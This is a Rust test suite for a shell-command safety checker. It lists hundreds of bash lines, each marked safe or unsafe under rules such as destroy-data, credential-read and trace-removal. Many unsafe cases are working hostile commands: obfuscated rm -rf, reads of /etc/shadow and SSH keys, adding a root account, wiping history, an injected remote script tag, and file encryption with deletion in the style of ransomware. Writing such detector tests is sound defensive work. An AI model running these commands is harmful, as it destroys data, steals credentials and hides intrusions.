//! Services, stores and the lines typed into programs: what is lost or run, and what only looks so.

mod judging;

use judging::{all_safe, is_unsafe};

#[track_caller]
fn each_unsafe(rule: &str, cases: &[&str]) {
    for code in cases {
        is_unsafe("bash", code, rule);
    }
}

#[test]
fn services_are_told_by_a_verb() {
    each_unsafe(
        "destroy-data",
        &[
            "aws quicksight delete-dashboard --dashboard-id d",
            "aws --profile ops memorydb delete-cluster --cluster-name m",
            "gcloud --quiet alloydb clusters delete c",
            "aliyun rds DeleteDBInstance --DBInstanceId r",
            "heroku pipelines:destroy shop",
            "govc vm.destroy web-3",
            "openstack volume delete v1",
            "juju destroy-model prod -y",
            "kopia snapshot delete s1 --delete",
            "rpk topic delete orders",
            "sentry-cli releases delete 1.0",
            "dokku apps:destroy shop",
            "curl -X POST 'http://prom:9090/api/v1/admin/tsdb/delete_series?match[]=x'",
            "pulumi --yes destroy",
            "scw instance server terminate 11",
        ],
    );
    all_safe(
        "bash",
        &[
            "aws quicksight list-dashboards",
            "aws s3api list-objects --prefix deleted/",
            "aws ec2 delete-subnet --subnet-id s --dry-run",
            "gcloud components remove kubectl",
            "gcloud compute instances describe delete-me",
            "aws ec2 describe-instances --profile delete",
            "heroku config",
            "juju status",
            "az extension remove --name devops",
            "aws dynamodb delete-item --table-name t --key file://k.json",
        ],
    );
}

#[test]
fn stores_of_every_kind_are_emptied() {
    each_unsafe(
        "destroy-data",
        &[
            "bq query 'DROP TABLE sales.raw'",
            "db2 drop database sales",
            "psql -c 'DELETE FROM orders WHERE true'",
            "clickhouse client -q 'TRUNCATE TABLE hits'",
            "curl -d 'q=DROP DATABASE metrics' http://influx:8086/query",
        ],
    );
    all_safe(
        "bash",
        &[
            "echo 'db.orders.countDocuments({})' | mongosh shop",
            "redis-cli get flush",
            "cypher-shell 'MATCH (n) RETURN count(n)'",
            "rails runner 'puts Order.count'",
            "psql -c 'DELETE FROM orders WHERE id = 7'",
            "bq query 'SELECT 1'",
            "redis-cli config get save",
            "scp app.tgz host:/srv/app/",
            "echo 'show info' | socat - /run/haproxy.sock",
        ],
    );
}

#[test]
fn lines_typed_into_programs_run() {
    each_unsafe(
        "shell-escape",
        &[
            "less notes.txt\n!sh\n",
            "systemctl status\n!/bin/bash\n",
            "sed 's/^/id;/e' names.txt",
            "scp -S /tmp/run x y:",
            "ssh -o 'ProxyCommand=;sh 0<&2' host",
            "GIT_SSH=/tmp/run git fetch",
            "julia -e 'run(`/bin/bash`)'",
            "nmap --script <(echo 'os.execute(\"/bin/sh\")') host",
        ],
    );
    each_unsafe(
        "destroy-files",
        &[
            "ed notes.txt <<< '!rm -rf /'",
            "printf '\\\\! rm -rf /\\n' | psql",
            "tmux send-keys -t 0 'rm -rf ~' Enter",
            "Rscript -e 'system(\"rm -rf /\")'",
        ],
    );
    all_safe(
        "bash",
        &[
            "less notes.txt\necho done\n",
            "sed 's/e/x/g' names.txt",
            "scp -i key x host:y",
            "echo 'define(a, b)a' | m4",
            "GIT_SSH=/usr/bin/plink git fetch",
            "tmux send-keys -t 0 'ls -l' Enter",
            "make -f - <<< $'all:\\n\\techo hi'",
        ],
    );
}

#[test]
fn what_names_and_words_stand_for() {
    each_unsafe(
        "destroy-files",
        &[
            "alias clean='rm -rf'\nclean /usr",
            "sh -c 'rm -rf \"$1\"' _ /etc",
            "bash -c '\"$@\"' run rm -rf /etc",
            "f() { c=$1; shift; $c \"$@\"; }; f rm -rf /etc",
            "printf -v c 'rm -rf %s' /etc; $c",
            "mapfile -t c <<< 'rm -rf /etc'; ${c[0]}",
            "echo 'rm -rf /etc' | tee log | sh",
            "echo 'rm -rf /etc' | $SHELL",
            "source /dev/stdin <<< 'rm -rf /etc'",
            "parallel 'rm -rf {}' ::: /etc",
            "p=(r m ' ' -rf ' ' /etc); IFS=; eval \"${p[*]}\"",
            "sed -e 's/X/rm/;s|Y|/etc|' <<< 'X -rf Y' | sh",
            "$(type -P rm) -rf /etc",
            "cat > go.sh <<EOF\nrm -rf $HOME\nEOF\nbash go.sh",
        ],
    );
    each_unsafe(
        "code-hidden",
        &[
            "awk '{print $2, $1}' <<< 'a b' | sh",
            "for i in 105 100; do printf \"\\\\$(printf %o $i)\"; done | sh",
            "eval \"$(fold -w2 <<< abcdef)\"",
        ],
    );
    all_safe(
        "bash",
        &[
            "alias ll='ls -l'\nll /usr",
            "alias grep='grep --color'\ngrep x y",
            "sh -c 'echo \"$1\"' _ /etc",
            "awk '{print $1}' names.txt",
            "printf -v name '%s.log' run; cat $name",
            "exec \"$SHELL\" -l",
            "name=$(echo \"$1\" | sed 's/x/y/'); echo $name",
        ],
    );
}

#[test]
fn secrets_that_lie_about() {
    each_unsafe(
        "system-survey",
        &[
            "find /opt /home -name .env -exec cat {} \\;",
            "find / -name '*_history'",
        ],
    );
    each_unsafe(
        "credential-read",
        &[
            "SSH_AUTH_SOCK=/tmp/ssh-Qx/agent.77 ssh-add -l",
            "cat /proc/1/root/etc/hosts",
            "cut -f2 names | xargs -n1 gcloud secrets versions access latest --secret",
            "az account get-access-token > /tmp/out",
        ],
    );
    all_safe(
        "bash",
        &[
            "find . -name '*.py' -exec grep -l token {} +",
            "find /usr/share/doc -name copyright -exec head -1 {} +",
            "history | grep make",
            "locate stdio.h",
            "export SSH_AUTH_SOCK=$XDG_RUNTIME_DIR/agent.sock",
        ],
    );
}

#[test]
fn files_held_for_ransom_and_programs_that_stand_in() {
    each_unsafe(
        "destroy-files",
        &["find ~ -name '*.odt' -exec gpg -c {} \\; -delete"],
    );
    is_unsafe(
        "bash",
        "cp /bin/cat '/tmp/[kthreadd]'",
        "obfuscated-command",
    );
    is_unsafe("bash", "mount --bind /tmp/none /proc/4242", "trace-removal");
    is_unsafe(
        "bash",
        "touch -d '3 years ago' /usr/lib/x.so",
        "trace-removal",
    );
    is_unsafe("bash", "nohup /tmp/agent >/dev/null 2>&1 &", "download-run");
    is_unsafe(
        "bash",
        "seq 90000 | xargs -P 200 curl -s http://example.org/",
        "network-flood",
    );
    is_unsafe(
        "bash",
        "sed -i 's|</body>|<script src=http://a.example/j></script>|' page.html",
        "download-run",
    );
    all_safe(
        "bash",
        &[
            "zip -r all.zip docs",
            "7z a all.7z docs",
            "find . -name '*.odt' -exec gpg -c {} \\;",
            "printf '#!/bin/sh\\n' > ~/.local/bin/hello",
            "touch -d yesterday build/stamp",
            "nohup ./server &",
            "seq 20 | xargs -P 4 curl -s https://example.com/{}",
            "head -c 1M /dev/zero | tail -c 10",
            "mkdir -p ../out",
        ],
    );
}

#[test]
fn no_padding_and_no_first_line_softens() {
    let padded = |command: &str| format!("{}{command}\n", ":\ntrue\nsleep 0\n".repeat(9));
    for (command, rule) in [
        ("docker run --privileged x", "container-escape"),
        ("aws s3 rb s3://b --force", "destroy-data"),
        ("history -c", "trace-removal"),
        ("cat /etc/passwd > /tmp/copy", "account-read"),
    ] {
        is_unsafe("bash", &padded(command), rule);
    }
    let many: Vec<String> = (0..20).map(|n| format!("tool{n} --step {n}")).collect();
    for (command, rule) in [
        ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "file-write"),
        ("rm -f /etc/shadow", "file-delete"),
        ("rm -f ~/.bash_history", "trace-removal"),
        ("> /var/log/wtmp", "trace-removal"),
        ("history -c", "trace-removal"),
        ("chmod u+s /bin/bash", "file-mode"),
        ("useradd -o -u 0 eve", "account-change"),
    ] {
        is_unsafe("bash", &format!("#!/bin/sh\n{command}\n"), rule);
        let long = format!("#!/bin/sh\n{}\n{command}\n", many.join("\n"));
        is_unsafe("bash", &long, rule);
    }
    all_safe(
        "bash",
        &[
            "#!/bin/sh\nif [ \"$1\" = purge ]; then rm -rf /var/lib/tool; fi\n",
            "#!/bin/sh\ncp default.conf /etc/tool.conf\n",
        ],
    );
}

#[test]
fn the_same_by_another_road() {
    each_unsafe(
        "destroy-files",
        &[
            "declare -A w=([x]=rm [y]=/etc); ${w[x]} -rf ${w[y]}",
            "declare -n r=line; line='rm -rf /etc'; sh -c \"$r\"",
            "perl -e 'print \"rm -rf /etc\"' | sh",
            "bash /dev/fd/4 4<<< 'rm -rf /etc'",
            "exec 5<<< 'rm -rf /etc'; sh <&5",
            "echo X > job; sed -i 's/X/rm -rf \\/etc/' job; sh job",
            "vi -c 'r !rm -rf /etc' notes",
            "find ~ -type f | while read -r f; do rm \"$f\"; done",
            "echo /* | xargs rm -rf",
            "rm -rf \"$(dirname /x)\"",
            "su - <<< 'rm -rf /etc'",
            "runuser -u app -- rm -rf /etc",
            "flock /tmp/lock rm -rf /etc",
            "LESSOPEN='|rm -rf /etc' less notes",
            "PS4='$(rm -rf /etc)' bash -xc true",
            "complete -C 'rm -rf /etc' tool",
            "(( n = $(rm -rf /etc) ))",
            "find / ! -name keep -delete",
            "find / -name a -o -delete",
        ],
    );
    is_unsafe(
        "bash",
        "kubectl delete ns prod --dry-run=none",
        "destroy-data",
    );
    each_unsafe(
        "credential-read",
        &[
            "cat /etc/s?ado[w]",
            "head ~/.ssh/id_r*",
            "cd /etc; cat shadow",
            "(cd ~/.ssh && base64 id_ed25519)",
            "tar c -C ~ .ssh",
            "git -C ~/.ssh diff --no-index /dev/null id_rsa",
            "cat /proc/self/root/etc/shadow",
        ],
    );
    all_safe(
        "bash",
        &[
            "declare -A w=([x]=ls); ${w[x]} /etc",
            "python3 -c 'print(\"echo hi\")' | sh",
            "find . -type f | while read -r f; do rm \"$f\"; break; done | head",
            "find . \\( -name '*.o' -o -name '*.a' \\) -delete",
            "cat /etc/*release",
            "grep -l x /etc/*.conf",
            "cd /etc; cat hostname",
            "tar c -C build .",
            "PS1='$(date) $ '",
            "PAGER='less -R' git log",
            "n=$(( $(wc -l < a) + 1 ))",
            "kubectl delete ns prod --dry-run=client",
            "mkfs.ext4 -q -F disk.img",
            "perl -e 'print chr(65)'",
            "lua -e 'confirm(\"/etc\")'",
            "ruby -e 'puts browser.chrome; system(\"ls\")'",
            "perl -e 'print \"rm\", \"-rf\", \"/etc\"'",
            "elixir -e 'IO.puts(\"rm\")'",
            "ssh host <<< 'uptime'",
            "ssh -o ProxyCommand='ssh -W %h:%p gate' host",
        ],
    );
}

#[test]
fn scripts_by_name_and_loops_that_grow() {
    for (code, rule) in [
        ("bash ./linpeas.sh -a", "system-survey"),
        ("python3 tools/LaZagne.py all", "system-survey"),
        ("> \"$HISTFILE\"", "trace-removal"),
        (
            "p=$(echo L2Jpbi9scw== | base64 -d); $p -l",
            "obfuscated-command",
        ),
        ("$(xclip -o)", "download-run"),
        ("while true; do echo x >> big; done", "destroy-disk"),
        ("while true; do echo x > /dev/null; done", "fork-bomb"),
        (
            "esxcli network firewall set --enabled false",
            "protection-off",
        ),
    ] {
        is_unsafe("bash", code, rule);
    }
    all_safe(
        "bash",
        &[
            "bash ./install.sh -a",
            "python3 tools/build.py all",
            "p=$(command -v ls); $p -l",
            "while true; do date >> log; sleep 60; done",
            "for p in a b c; do echo \"$p\"; done",
            "esxcli network firewall get",
        ],
    );
}
